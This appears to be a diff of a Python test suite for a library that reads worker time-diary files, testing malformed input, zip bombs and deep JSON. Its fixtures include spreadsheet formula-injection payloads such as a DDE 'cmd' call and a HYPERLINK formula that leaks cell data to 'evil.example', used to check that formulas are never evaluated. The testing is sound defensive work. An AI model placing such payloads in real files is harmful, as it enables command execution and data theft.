@@ -41,7 +41,16 @@ from timestudy.io import files
 from timestudy.io.tables import read_cases, read_workers
 
 SUFFIXES = [".csv", ".tsv", ".txt", ".xlsx", ".parquet", ".jsonl", ".json", ".dat"]
-MAGIC = [b"", b"PK\x03\x04", b"PAR1", b"{", b"[", b"\xef\xbb\xbf", b"\xff\xfe", b"worker_id,start,end\n"]
+MAGIC = [
+    b"",
+    b"PK\x03\x04",
+    b"PAR1",
+    b"{",
+    b"[",
+    b"\xef\xbb\xbf",
+    b"\xff\xfe",
+    b"worker_id,start,end\n",
+]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 BASE = pd.DataFrame(
@@ -103,8 +112,10 @@ def damaged(draw, fmt: str) -> bytes:
     """A valid diary in ``fmt`` with a few random edits (in the sheet XML for a workbook)."""
     data = VALID[fmt]
     if fmt == "xlsx":
-        parts = {i.filename: zipfile.ZipFile(io.BytesIO(data)).read(i) for i in zipfile.ZipFile(
-            io.BytesIO(data)).infolist()}
+        parts = {
+            i.filename: zipfile.ZipFile(io.BytesIO(data)).read(i)
+            for i in zipfile.ZipFile(io.BytesIO(data)).infolist()
+        }
         name = draw(st.sampled_from(sorted(parts)))
         parts[name] = draw(edits(parts[name]))
         buf = io.BytesIO()
@@ -127,8 +138,23 @@ def edits(draw, data: bytes) -> bytes:
             del out[pos : pos + draw(st.integers(1, 40))]
         else:
             junk = st.sampled_from(
-                [b"\x00", b'"', b",", b"\n", b"\r", b"{", b"[", b"<", b"&", b"</c>", b"\xff",
-                 b'<c r="ZZ9" t="s"><v>99</v></c>', b'<v>1e999</v>', b'<row r="0">', b"=cmd|"]
+                [
+                    b"\x00",
+                    b'"',
+                    b",",
+                    b"\n",
+                    b"\r",
+                    b"{",
+                    b"[",
+                    b"<",
+                    b"&",
+                    b"</c>",
+                    b"\xff",
+                    b'<c r="ZZ9" t="s"><v>99</v></c>',
+                    b"<v>1e999</v>",
+                    b'<row r="0">',
+                    b"=cmd|",
+                ]
             )
             out[pos:pos] = draw(st.one_of(junk, st.binary(min_size=1, max_size=8)))
     return bytes(out)
@@ -176,18 +202,31 @@ HEADER = "worker_id,start,end,activity"
 ROW = "W1,2026-03-09T09:00,2026-03-09T10:00,home visit"
 
 
-def test_a_10_mb_cell_is_refused_with_the_likely_cause(tmp_path):
+def test_a_10_mb_cell_is_read_as_in_json_lines(tmp_path):
     path = tmp_path / "huge_cell.csv"
     path.write_text(f"{HEADER}\nW1,2026-03-09T09:00,2026-03-09T10:00,{'a' * 10_000_000}\n{ROW}\n")
+    result = read_or_refuse(path)
+    assert result.report.n_read == 2 and result.report.n_accepted == 2
+
+
+def test_a_cell_over_the_field_limit_is_refused_with_the_likely_cause(tmp_path, monkeypatch):
+    monkeypatch.setattr("timestudy.io.csvfile.FIELD_LIMIT", 150_000)
+    path = tmp_path / "huge_cell.csv"
+    long_value = '"' + "a" * 200_000 + '\nb"'  # a line break inside: the exact (csv) reader
+    path.write_text(f"{HEADER}\nW1,2026-03-09T09:00,2026-03-09T10:00,{long_value}\n{ROW}\n")
     error = read_or_refuse(path)
     assert isinstance(error, SchemaError)
     assert "longer than" in str(error) and "quote" in str(error)
 
 
-def test_an_unclosed_quote_running_to_the_end_of_the_file_is_refused(tmp_path):
+def test_an_unclosed_quote_running_to_the_end_of_the_file_is_a_reject(tmp_path):
     path = tmp_path / "open_quote.csv"
-    path.write_text(f'{HEADER}\nW1,2026-03-09T09:00,2026-03-09T10:00,"visit\n' + ROW * 20_000)
-    read_or_refuse(path)
+    path.write_text(
+        f'{HEADER}\nW1,2026-03-09T09:00,2026-03-09T10:00,"visit\n' + (ROW + "\n") * 20_000
+    )
+    result = read_or_refuse(path)
+    assert result.report.rejected_by_reason == {"unclosed_quote": 1}
+    assert "20,000 lines that look like rows" in result.rejects["reason"].iloc[0]
 
 
 def test_a_10_mb_cell_in_json_lines_is_read(tmp_path):
@@ -237,7 +276,9 @@ def test_nul_bytes_anywhere(tmp_path):
     only.write_bytes(b"\x00" * 1_000_000)
     read_or_refuse(only)
     clean_header = tmp_path / "nul_in_cells.csv"
-    clean_header.write_bytes(f"{HEADER}\n".encode() + b"W1,2026-03-09T09:00,2026-03-09T10:00,a\x00b\n")
+    clean_header.write_bytes(
+        f"{HEADER}\n".encode() + b"W1,2026-03-09T09:00,2026-03-09T10:00,a\x00b\n"
+    )
     result = read_or_refuse(clean_header)
     assert result.report.n_read == 1
 
@@ -264,8 +305,13 @@ def test_deep_json_is_refused_without_reaching_pyarrow_and_crashing(tmp_path):
     nested_value = tmp_path / "deep_value.jsonl"
     record = dict(zip(HEADER.split(","), ROW.split(","), strict=True))
     nested_value.write_text(
-        json.dumps(record)[:-1] + ', "note": ' + "[" * 100_000 + "]" * 100_000 + "}\n"
-        + json.dumps(record) + "\n"
+        json.dumps(record)[:-1]
+        + ', "note": '
+        + "[" * 100_000
+        + "]" * 100_000
+        + "}\n"
+        + json.dumps(record)
+        + "\n"
     )
     result = read_or_refuse(nested_value)
     assert result.report.n_read == 2 and result.report.n_rejected == 1
@@ -300,7 +346,9 @@ def test_zip_bombs_are_refused_before_they_are_unpacked(tmp_path):
     # a sheet claiming to unpack to 4 GB
     liar = tmp_path / "liar.xlsx"
     liar.write_bytes(
-        _lying_sizes(xlsx_bytes(sheet_rows([["worker_id"]])), b"xl/worksheets/sheet1.xml", 2**32 - 16)
+        _lying_sizes(
+            xlsx_bytes(sheet_rows([["worker_id"]])), b"xl/worksheets/sheet1.xml", 2**32 - 16
+        )
     )
     for path in (spaces, rows, liar):
         error = read_or_refuse(path, seconds=2.0)
@@ -336,9 +384,14 @@ FORMULAS = [
     # a formula without a cached value: read as an empty cell, never as its text or result
     ["W1", "2026-03-09T09:00", "2026-03-09T10:00", (None, "cmd|' /C calc'!A0"), 60],
     # a formula whose cached value is itself formula text (a crafted file can hold anything)
-    ["W1", "2026-03-09T10:00", "2026-03-09T11:00",
-     ("=cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A2,"click")'), 60],
-    ["W1", "2026-03-09T11:00", "2026-03-09T12:00", "=HYPERLINK(\"http://evil.example\")", 60],
+    [
+        "W1",
+        "2026-03-09T10:00",
+        "2026-03-09T11:00",
+        ("=cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A2,"click")'),
+        60,
+    ],
+    ["W1", "2026-03-09T11:00", "2026-03-09T12:00", '=HYPERLINK("http://evil.example")', 60],
     ["W1", "2026-03-09T12:00", "2026-03-09T13:00", "@SUM(1+1)*cmd|' /C calc'!A0", 60],
     ["W1", "2026-03-09T13:00", "2026-03-09T14:00", "+1+2", 60],
     ["W1", "2026-03-09T14:00", "2026-03-09T15:00", "-2+3", (None, "1+2")],
@@ -365,7 +418,7 @@ def test_workbook_formulas_are_never_evaluated_and_exports_neutralise_them(tmp_p
     text = " ".join(map(str, result.episodes.to_numpy().ravel())) + " ".join(
         map(str, result.rejects.to_numpy().ravel())
     )
-    assert "HYPERLINK(\"http://evil.example/?\"" not in text  # a formula's own text
+    assert 'HYPERLINK("http://evil.example/?"' not in text  # a formula's own text
     assert pd.isna(episodes.loc[2, "activity"])  # formula without a cached value: empty
     assert episodes.loc[3, "activity"] == "=cmd|' /C calc'!A0"  # stored text, as text
     assert 7 not in episodes.index or episodes.loc[7, "duration_min"] != 3  # 1+2 not run
